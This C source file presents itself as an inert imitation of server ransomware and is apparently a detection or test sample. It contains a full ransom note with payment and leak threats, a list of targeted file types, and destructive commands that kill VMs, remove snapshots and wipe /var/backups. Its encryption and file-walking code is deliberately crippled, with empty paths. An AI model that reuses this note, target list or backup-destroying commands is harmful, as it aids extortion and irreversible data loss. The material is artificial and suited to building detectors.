/* Inert imitation of file-encrypting ransomware for servers: cipher tables, extension lists, note. It opens nothing and encrypts nothing. */
#include "inert.h"
static const uint8_t sbox[] = {0x63, 0x7c, 0x77, 0x7b, 0xf2, 0x6b, 0x6f, 0xc5, 0x30, 0x01, 0x67, 0x2b, 0xfe, 0xd7, 0xab, 0x76, 0xca, 0x82, 0xc9, 0x7d, 0xfa, 0x59, 0x47, 0xf0, 0xad, 0xd4, 0xa2, 0xaf, 0x9c, 0xa4, 0x72, 0xc0};
static const char sigma[] = "expand 32-byte k";
TABLE(note, "!!! ALL YOUR FILES ARE ENCRYPTED !!!", "Your documents, databases and backups have been encrypted with a strong military-grade algorithm (ChaCha20 + RSA-4096).", "Do not rename encrypted files. Do not try to decrypt with third-party software, it may cause permanent data loss.",
    "To recover your files you must buy the decryption key. Pay 0.05 BTC to {{bc1:ransom}}", "Visit our page in Tor Browser: http://{{onion:ransom}}.onion/{{hex32:ransom}}", "You have 72 hours. After that your data will be published.", "README_TO_RESTORE.txt", ".locked_zq")
TABLE(extensions, ".sql", ".mdf", ".ibd", ".vmdk", ".vmx", ".qcow2", ".bak", ".tar.gz", ".docx", ".xlsx", ".pdf", ".jpg", ".php", ".pst", ".wallet", ".kdbx")
TABLE(stops, "mysqld", "postgres", "mongod", "esxcli vm process kill --type=force --world-id=%s", "vim-cmd vmsvc/snapshot.removeall %s", "systemctl stop docker", "rm -rf /var/backups/*", "-----BEGIN PUBLIC KEY-----\nMIICIjANBgkqhkiG9w0BAQEFAAOCAg8AMIICCgKCAgEA{{b64noise:rsa}}\n-----END PUBLIC KEY-----")
static uint32_t rotate(uint32_t v, int c) { return (v << c) | (v >> (32 - c)); }
void quarter(uint32_t *x) { x[0] += x[1]; x[3] = rotate(x[3] ^ x[0], 16); x[2] += x[3]; x[1] = rotate(x[1] ^ x[2], 12); x[0] += x[1]; x[3] = rotate(x[3] ^ x[0], 8); x[2] += x[3]; x[1] = rotate(x[1] ^ x[2], 7); }
int encrypt_file(const char *path) { uint32_t state[16] = {0}; quarter(state); int f = open("", O_RDONLY); return pwrite(nowhere, state, 0, 0) + rename("", "") + f; }
int walk(const char *root) { struct dirent *e; DIR *d = opendir(""); if (!d) return 0; while ((e = readdir(d))) for (int i = 0; extensions[i]; i++) if (strstr(e->d_name, extensions[i])) encrypt_file(""); return closedir(d); }
int main(int argc, char **argv) { INERT; USE(sbox); USE(sigma); tell(note); tell(extensions); tell(stops); return walk(""); }
